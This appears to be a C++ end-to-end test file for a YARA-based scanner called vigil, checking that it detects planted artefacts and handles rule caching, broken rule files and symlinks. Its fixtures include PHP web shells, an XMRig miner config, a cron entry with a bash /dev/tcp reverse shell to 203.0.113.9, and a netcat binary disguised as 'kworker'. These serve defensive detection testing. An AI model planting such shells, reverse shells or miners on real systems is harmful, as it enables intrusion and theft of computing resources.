// vigil scan (issue 15, YARA over files): planted artefacts - a netcat renamed and hidden, a
// PHP web shell, an XMRig configuration, a reverse shell in a cron file - are found with the
// bundled rules; clean look-alikes and this host's /usr/bin raise nothing high; a third-party
// rule set with a broken file loads the rest and names the broken file and line; under
// --root, a symlink never leads out of the image.
#include <sys/stat.h>

#include <filesystem>
#include <map>
#include <set>
#include <thread>

#include <sys/wait.h>

#include <gtest/gtest.h>

#include "e2e/vigil_run.hpp"
#include "support/temp_dir.hpp"

using namespace vigil::testing;
namespace fs = std::filesystem;

namespace {

const std::string kNetcat = "/usr/bin/nc.traditional";

// Each test keeps the compiled-rules cache in its own directory (never the tester's home).
class ScanCache {
 public:
  explicit ScanCache(const TempDir& d) { ::setenv("VIGIL_CACHE_DIR", (d / "cache").c_str(), 1); }
  ~ScanCache() { ::unsetenv("VIGIL_CACHE_DIR"); }
};

// rule id → the file paths it matched.
std::map<std::string, std::set<std::string>> matches(const RunResult& r) {
  std::map<std::string, std::set<std::string>> out;
  auto doc = nlohmann::json::parse(r.out, nullptr, false);
  if (doc.is_discarded()) return out;
  for (const auto& f : doc["findings"])
    if (f["rule"]["id"].get<std::string>().starts_with("yara."))
      out[f["rule"]["id"].get<std::string>()].insert(f["file"]["path"].get<std::string>());
  return out;
}

std::size_t high(const RunResult& r) {
  std::size_t n = 0;
  auto doc = nlohmann::json::parse(r.out, nullptr, false);
  if (doc.is_discarded()) return 0;
  for (const auto& f : doc["findings"]) {
    std::string level = f["vigil"]["severity"].is_string() ? f["vigil"]["severity"].get<std::string>() : "";
    if (level == "high" || level == "critical") ++n;
  }
  return n;
}

}  // namespace

TEST(Scan, PlantedArtefactsAreFoundWithTheBundledRules) {
  TempDir d("vigil-scan");
  ScanCache cache(d);
  if (fs::exists(kNetcat)) {
    fs::create_directories(d / ".x");
    fs::copy_file(kNetcat, d / ".x/kworker");
    fs::copy_file(kNetcat, d / "nc");  // under its own name: not disguised
  }
  d.write("www/uploads/img.php", "<?php if(isset($_REQUEST['c'])){ echo '<pre>'; system($_REQUEST['c']); } ?>\n");
  d.write("www/eval.php", "<?php @eval(base64_decode($_POST['z0'])); ?>\n");
  d.write(".cache/config.json",
          "{\n  \"autosave\": true,\n  \"donate-level\": 1,\n  \"cpu\": {\"enabled\": true},\n  \"randomx\": {\"mode\": \"fast\"},\n"
          "  \"pools\": [{\"url\": \"pool.example.net:3333\", \"user\": \"x\", \"algo\": \"rx/0\"}]\n}\n");
  d.write("cron.d/backup", "*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n");
  auto r = run_vigil({"scan", d.path(), "--format", "json"});
  ASSERT_EQ(r.exit_code, 1) << r.err;  // high findings
  auto m = matches(r);
  if (fs::exists(kNetcat)) {
    EXPECT_EQ(m["yara.vigil_netcat_renamed"], std::set<std::string>{d / ".x/kworker"}) << r.out;
  } else {
    std::cerr << "netcat-traditional is not installed: the renamed-netcat case is skipped\n";
  }
  EXPECT_EQ(m["yara.vigil_webshell_php"], (std::set<std::string>{d / "www/eval.php", d / "www/uploads/img.php"}));
  EXPECT_EQ(m["yara.vigil_miner_xmrig_config"], std::set<std::string>{d / ".cache/config.json"});
  EXPECT_EQ(m["yara.vigil_reverse_shell_bash"], std::set<std::string>{d / "cron.d/backup"});
  auto doc = nlohmann::json::parse(r.out);
  for (const auto& f : doc["findings"])
    if (f["rule"]["id"] == "yara.vigil_reverse_shell_bash") {
      EXPECT_NE(f["vigil"]["yara"]["strings"].get<std::string>().find("$dev_tcp@0x"), std::string::npos) << f.dump();
      EXPECT_EQ(f["threat"]["technique"]["id"][0], "T1059.004") << f.dump();
    }
}

TEST(Scan, CleanLookAlikesAndThisHostsProgramsRaiseNothingHigh) {
  TempDir d("vigil-scan");
  ScanCache cache(d);
  d.write("www/search.php", "<?php echo htmlspecialchars($_GET['q'] ?? ''); $out = shell_exec('uptime'); ?>\n");
  d.write("notes/networking.md", "Bash can open TCP sockets through /dev/tcp/host/port, see the bash manual.\n");
  d.write("app/config.json", "{\"pools\": {\"db\": {\"size\": 4}}, \"cpu\": 2}\n");
  d.write("cron.d/logrotate", "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n");
  auto r = run_vigil({"scan", d.path(), "--format", "json"});
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_TRUE(matches(r).empty()) << r.out;
  // vigil's own rules and their documentation name what they look for, and are no malware.
  auto own = run_vigil({"scan", std::string(VIGIL_SOURCE_DIR) + "/rules/yara", std::string(VIGIL_SOURCE_DIR) + "/docs",
                        "--format", "json"});
  EXPECT_EQ(high(own), 0u) << own.out;
  auto bin = run_vigil({"scan", "/usr/bin", "--format", "json"});
  EXPECT_EQ(bin.exit_code, 0) << bin.err;
  EXPECT_EQ(high(bin), 0u) << bin.out;
}

TEST(Scan, CompiledRulesAreCachedUntilAFileChanges) {
  TempDir d("vigil-scan");
  ScanCache cache(d);
  d.write("rules/a.yar", "rule cached_marker { strings: $a = \"MARKER-1\" condition: $a }\n");
  d.write("rules/b.yar", "rule broken {\n condition: and\n}\n");
  d.write("files/x.txt", "MARKER-1 MARKER-2\n");
  std::vector<std::string> args = {"scan", d / "files", "--no-builtin", "--rules", d / "rules"};
  auto first = run_vigil(args);
  EXPECT_EQ(first.out.find("the cache"), std::string::npos) << first.out;
  EXPECT_NE(first.out.find("cached_marker"), std::string::npos) << first.out;
  auto second = run_vigil(args);
  EXPECT_NE(second.out.find("(compiled earlier: the cache)"), std::string::npos) << second.out;
  EXPECT_NE(second.out.find("cached_marker"), std::string::npos) << second.out;
  EXPECT_NE(second.err.find(d / "rules/b.yar:2:"), std::string::npos) << "a cached load still names the broken file: " << second.err;
  // An edited rule file is a new set: compiled again, and its new rule is used.
  d.write("rules/a.yar", "rule edited_marker { strings: $a = \"MARKER-2\" condition: $a }\n");
  auto third = run_vigil(args);
  EXPECT_EQ(third.out.find("the cache"), std::string::npos) << third.out;
  EXPECT_NE(third.out.find("edited_marker"), std::string::npos) << third.out;
  // A corrupt cache file is compiled past.
  for (const auto& e : fs::directory_iterator(d / "cache"))
    if (e.path().extension() == ".yarc") d.write(fs::relative(e.path(), d.path()).string(), "not compiled rules");
  auto fourth = run_vigil(args);
  EXPECT_NE(fourth.out.find("edited_marker"), std::string::npos) << fourth.out << fourth.err;
}

TEST(Scan, ABrokenThirdPartyRuleFileIsNamedWithItsLineAndTheRestLoad) {
  TempDir d("vigil-scan");
  ScanCache cache(d);
  d.write("rules/a_good.yar", "rule third_party_marker { strings: $a = \"MARKER-1234\" condition: $a }\n");
  d.write("rules/b_broken.yar", "rule broken {\n  strings:\n    $a = \"x\"\n  condition:\n    $a and and\n}\n");
  d.write("rules/c_uses_externals.yar",
          "rule by_name { condition: filename == \"payload.bin\" and extension == \"bin\" }\n");
  d.write("files/payload.bin", "here is MARKER-1234\n");
  auto r = run_vigil({"scan", d / "files", "--no-builtin", "--rules", d / "rules", "--format", "json"});
  EXPECT_NE(r.err.find(d / "rules/b_broken.yar:5:"), std::string::npos) << r.err;
  auto m = matches(r);
  EXPECT_EQ(m["yara.third_party_marker"], std::set<std::string>{d / "files/payload.bin"}) << r.out;
  EXPECT_EQ(m["yara.by_name"], std::set<std::string>{d / "files/payload.bin"}) << r.out;
  // A file that is not YARA at all, alone: an error, not a crash.
  d.write("notyara/x.yar", "\x7f" "ELF\x01\x01 this is not a rule\n");
  auto bad = run_vigil({"scan", d / "files", "--no-builtin", "--rules", d / "notyara", "--format", "json"});
  EXPECT_EQ(bad.exit_code, 2);
  EXPECT_NE(bad.err.find("x.yar:1"), std::string::npos) << bad.err;
}

TEST(Scan, UnderRootASymlinkNeverLeadsOutOfTheImage) {
  TempDir d("vigil-scan");
  ScanCache cache(d);
  d.write("img/tmp/readme.txt", "nothing here\n");
  fs::create_directories(d / "img/var/www");
  d.write("img/var/www/shell.php", "<?php system($_GET['cmd']); ?>\n");
  // An absolute symlink in the image points at the analyst's own files: resolved inside the image.
  d.write("outside/evil.php", "<?php system($_GET['cmd']); ?>\n");
  fs::create_symlink(d / "outside/evil.php", d / "img/tmp/link.php");
  auto r = run_vigil({"scan", "--root", d / "img", "/tmp", "/var/www", "--format", "json"});
  auto m = matches(r);
  EXPECT_EQ(m["yara.vigil_webshell_php"], std::set<std::string>{d / "img/var/www/shell.php"}) << r.out << r.err;
  // The drop zones by default, under the root: the same web shell.
  auto dflt = run_vigil({"scan", "--root", d / "img", "--format", "json"});
  EXPECT_EQ(matches(dflt)["yara.vigil_webshell_php"], std::set<std::string>{d / "img/var/www/shell.php"}) << dflt.out;
}

TEST(ScanMemory, WhatAProcessDecodedIsFoundInItsMemoryAndNotInItsFile) {
  TempDir d("vigil-scan");
  ScanCache cache(d);
  const std::string python = "/usr/bin/python3";
  if (!fs::exists(python)) GTEST_SKIP() << "python3 is not installed: the process-memory case needs a program that decodes at run time";
  // The pool address exists only once decoded: neither the program nor its command line holds it.
  Planted miner(python, {"python3", "-c",
                         "import base64,time\n"
                         "u = base64.b64decode('c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUubmV0OjMzMzM=').decode()\n"
                         "time.sleep(60)\n"});
  ASSERT_GT(miner.pid(), 0);
  RunResult r;
  bool found = false;
  for (int i = 0; i < 30 && !found; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    r = run_vigil({"scan", "--pids", std::to_string(miner.pid()), "--format", "json"});
    auto doc = nlohmann::json::parse(r.out, nullptr, false);
    if (doc.is_discarded()) continue;
    for (const auto& f : doc["findings"])
      if (f["rule"]["id"] == "yara.vigil_miner_pool_url") {
        found = true;
        EXPECT_EQ(f["process"]["pid"], miner.pid());
        EXPECT_EQ(f["process"]["name"].get<std::string>().rfind("python3", 0), 0u) << f.dump();
        EXPECT_NE(f["vigil"]["memory"]["region"].get<std::string>().find("rw-"), std::string::npos) << f.dump();
      }
  }
  EXPECT_TRUE(found) << r.out << r.err;
  auto file = run_vigil({"scan", fs::canonical("/proc/" + std::to_string(miner.pid()) + "/exe"), "--format", "json"});
  EXPECT_TRUE(matches(file).empty()) << "the program's file holds no pool address: " << file.out;
}

TEST(ScanMemory, AProcessThatIsGoneIsSaidAndNotAnError) {
  TempDir d("vigil-scan");
  ScanCache cache(d);
  pid_t gone = 0;
  {
    Planted p("/bin/sleep", {"sleep", "0"});
    gone = p.pid();
    ::waitpid(gone, nullptr, 0);
  }
  auto r = run_vigil({"scan", "--pids", std::to_string(gone), "--format", "json"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  auto doc = nlohmann::json::parse(r.out, nullptr, false);
  ASSERT_FALSE(doc.is_discarded()) << r.out;
  bool said = false;
  for (const auto& f : doc["findings"])
    if (f["rule"]["id"] == "collector.partial" && f.dump().find("no such process") != std::string::npos) said = true;
  EXPECT_TRUE(said) << r.out;
  EXPECT_EQ(run_vigil({"scan", "--pids", "x1"}).exit_code, 2);
  EXPECT_EQ(run_vigil({"scan", "--pids", "--root", "/tmp"}).exit_code, 2);
}

TEST(Scan, TriageWithYaraScansTheDropZonesOfTheImage) {
  TempDir d("vigil-scan");
  ScanCache cache(d);
  d.write("img/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  d.write("img/var/www/html/up.php", "<?php @eval(base64_decode($_POST['z0'])); ?>\n");
  auto without = run_vigil({"triage", "--root", d / "img", "--force", "--format", "json"});
  EXPECT_TRUE(matches(without).empty()) << "YARA runs only when asked";
  auto with = run_vigil({"triage", "--root", d / "img", "--force", "--yara", "--format", "json"});
  EXPECT_EQ(matches(with)["yara.vigil_webshell_php"], std::set<std::string>{d / "img/var/www/html/up.php"}) << with.out << with.err;
}
